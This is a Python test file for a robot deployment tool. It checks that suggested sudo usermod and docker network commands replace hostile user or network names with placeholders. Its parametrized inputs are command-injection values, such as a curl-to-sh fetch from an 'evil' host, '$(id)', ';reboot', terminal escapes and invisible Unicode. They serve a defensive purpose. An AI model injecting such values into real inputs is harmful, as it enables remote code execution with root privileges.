"""What a robot calls its user, in a command that somebody with sudo is to copy."""

from __future__ import annotations

from typing import Any

import pytest

from robenv.deploy.connection import Connection, Ended
from robenv.deploy.inventory import Robot
from robenv.engine.start_errors import explain
from robenv.errors import EngineDenied, OperationFailed


class Told(Connection):
    """A connection to a robot that says ``name`` when it is asked who the user is."""

    def __init__(self, name: str) -> None:
        self.robot = Robot("arm", "192.0.2.1")
        self._name = name

    @property
    def alive(self) -> bool:
        return True

    def run(self, *argv: str, stdin: bytes = b"", timeout: float | None = 60) -> Ended:
        return Ended(0, f"there\n{self._name}\n".encode(), "")


def refused(name: str) -> Any:
    return Told(name)._engine_refused(EngineDenied("no"))


def test_a_plain_name_is_told() -> None:
    error = refused("robot-1")
    assert "`sudo usermod -aG docker robot-1`" in error.hint
    assert "robot-1 may not open" in error.message


@pytest.mark.parametrize(
    "name",
    ['\x1b]0;x\x07x;curl$IFS"evil"|sh', "x;reboot", "$(id)", "`id`", "\u202ehs", "a&b", "--help", "\u200bx", "ü"],
)
def test_what_a_shell_would_run_is_not(name: str) -> None:
    error = refused(name)
    assert "`sudo usermod -aG docker USER`" in error.hint
    assert error.message.isprintable()


@pytest.mark.parametrize(
    ("name", "shown"), [("lan", "lan"), ("x;reboot", "NAME"), ("$(id)", "NAME"), ("\x1b[2J", "NAME")]
)
def test_nor_what_an_engine_calls_a_network(name: str, shown: str) -> None:
    error = explain(OperationFailed(f"Could not start it: network {name} not found"), "picker")
    assert f"`docker network create {shown}`" in error.hint
